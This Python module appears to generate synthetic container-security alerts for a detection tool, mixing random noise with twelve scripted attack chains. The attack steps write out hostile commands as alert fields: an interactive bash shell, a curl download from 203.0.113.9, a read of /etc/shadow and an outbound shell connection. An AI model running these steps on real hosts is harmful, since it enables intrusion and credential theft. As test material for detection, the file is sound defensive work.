"""Alerts of a busy host, made up: 40 kinds of noise over 500 containers, and attacks that are written down."""

from __future__ import annotations

import functools
import random
from typing import TYPE_CHECKING, NamedTuple

from hullwatch.alerts.alert import Alert
from hullwatch.alerts.origin import Ancestor, Origin

if TYPE_CHECKING:
    from collections.abc import Iterator

KINDS = 40
WORKLOADS = 10  # each has its own kinds
CONTAINERS = 500
ATTACKS = 12  # in containers of one workload
BEGIN = 1_795_858_250_000_000_000  # ns since the epoch
SPAN = 3600 * 10**9  # ns that all of it takes
_STEP = 20 * 10**9  # ns between two steps of an attack


class AttackStep(NamedTuple):
    """One thing that every attack does, as the pack's rule tells it."""

    rule: str
    priority: str
    tags: tuple[str, ...]
    fields: dict[str, object]


ATTACK = (
    AttackStep("Shell in a container", "Notice", ("T1059.004", "mitre_execution"), {"proc.cmdline": "bash -i"}),
    AttackStep(
        "Download tool in a container",
        "Notice",
        ("T1105", "mitre_command_and_control"),
        {"proc.cmdline": "curl -o /tmp/xm http://203.0.113.9/xm"},
    ),
    AttackStep("File dropped", "Warning", ("T1105", "mitre_command_and_control"), {"fd.name": "/usr/local/bin/xm"}),
    AttackStep(
        "Program that the image does not bring",
        "Critical",
        ("T1204", "mitre_execution"),
        {"drift.path": "/usr/local/bin/xm", "drift.sha256": "ab" * 32},
    ),
    AttackStep("Sensitive file read", "Warning", ("T1003.008", "mitre_credential_access"), {"fd.name": "/etc/shadow"}),
    AttackStep(
        "Shell connects to a public address",
        "Warning",
        ("T1095", "mitre_command_and_control"),
        {"fd.name": "10.0.0.2:41234->203.0.113.9:443"},
    ),
)
_EVIDENCE = (
    "/data/part-{}.parquet",
    "/tmp/build-{}/x.o",  # noqa: S108 - nobody opens it
    "10.0.0.2:{}->93.184.216.34:443",
    "/proc/{}/environ",
)


def alerts(number: int, seed: int = 1) -> Iterator[Alert]:
    """Yield so many alerts in the order of their times, the attacks' among them."""
    chance = random.Random(seed)  # noqa: S311 - made-up alerts, the same in each run
    attacks = sorted(_attacks(chance), key=lambda one: one.time)
    noise = number - len(attacks)
    for place in range(noise):
        time = BEGIN + SPAN * place // noise
        while attacks and attacks[0].time <= time:
            yield attacks.pop(0)
        yield _noise(chance, place, time)
    yield from attacks


def attacked() -> list[int]:
    """Return the numbers of the containers that are attacked."""
    return [3 + WORKLOADS * place * 4 for place in range(ATTACKS)]


def _attacks(chance: random.Random) -> Iterator[Alert]:
    for container in attacked():
        begin = BEGIN + chance.randrange(SPAN - _STEP * len(ATTACK))
        for place, step in enumerate(ATTACK):
            pid = 50_000 + container * 10
            line = ((pid + place, "xm" if place else "bash"), (pid, "bash"))
            yield _alert(
                container, f"a{container}-{place}", begin + place * _STEP, step.rule, step.priority, step.tags,
                step.fields, line, session=f"{pid}.{pid * 7}",
            )  # fmt: skip


def _noise(chance: random.Random, place: int, time: int) -> Alert:
    container = chance.randrange(CONTAINERS)
    kind = container % WORKLOADS + WORKLOADS * chance.randrange(KINDS // WORKLOADS)
    text = _EVIDENCE[kind // WORKLOADS % len(_EVIDENCE)].format(place)
    fields: dict[str, object] = {"fd.name": text, "proc.cmdline": f"worker --job {place} {text}"}
    line = ((1000 + place, "worker"), (100 + container, "init"))
    priority = "Notice" if kind % 3 else "Informational"
    return _alert(container, f"n{place}", time, f"Kind {kind}", priority, ("T1083", "mitre_discovery"), fields, line)


@functools.cache
def _container(number: int) -> tuple[str, str, str, str]:
    """Return a container's id, name, image and workload."""
    workload = number % WORKLOADS
    return f"{number * 7919 + 1:064x}"[::-1], f"w{workload}-{number}", f"shop/w{workload}:1", f"shop/w{workload}"


def _alert(  # noqa: PLR0913, PLR0917 - an alert has this many parts
    container: int,
    identifier: str,
    time: int,
    rule: str,
    priority: str,
    tags: tuple[str, ...],
    fields: dict[str, object],
    line: tuple[tuple[int, str], ...],
    session: str = "",
) -> Alert:
    full, name, image, workload = _container(container)
    process = line[0][1]
    return Alert(
        time=time,
        rule=rule,
        priority=priority,
        message=rule,
        output_fields={**fields, "proc.exepath": f"/usr/bin/{process}", "container.name": name, "user.name": "root"},
        tags=tags,
        hostname="node1",
        container_id=full[:12],
        container_name=name,
        container_image=image,
        process=process,
        id=identifier,
        origin=Origin(
            workload=workload,
            container=full,
            user="root",
            session=session,
            session_name="bash" if session else "",
            tree=f"{line[-1][0]}.{line[-1][0] * 7}",
            processes=tuple(Ancestor(pid, pid * 7, word, f"{word} --started") for pid, word in line),
        ),
    )
